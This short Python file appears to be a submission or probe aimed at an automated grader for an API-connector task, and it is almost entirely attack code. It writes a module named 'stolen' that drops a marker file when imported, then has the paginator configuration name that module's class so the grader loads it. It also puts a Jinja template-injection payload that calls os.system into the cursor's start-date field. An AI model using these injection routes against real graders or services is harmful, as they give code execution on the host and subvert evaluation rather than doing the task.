"""A paginator that names a class of the student's, and templates that reach for Python's own."""
# loses: check_the_connector_reads_all_pages check_the_connector_goes_on_from_its_state
# %% + first
import os
os.makedirs("stolen", exist_ok=True)
open("stolen/__init__.py", "w").write("open('/tmp/graded/work/i_ran', 'w').write('labs-attack')\nclass All: pass\n")
# %% paginator
def paginator():
    return {"type": "DefaultPaginator", "pagination_strategy": {"type": "CustomPaginationStrategy", "class_name": "stolen.All"},
            "page_token_option": {"type": "RequestOption", "inject_into": "request_parameter", "field_name": "starting_after"}}
# %% incremental
def incremental():
    code = "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ cycler.__init__.__globals__.os.system('touch /tmp/graded/work/i_ran') }}"
    return {"type": "DatetimeBasedCursor", "cursor_field": "created", "datetime_format": "%s", "start_datetime": code}
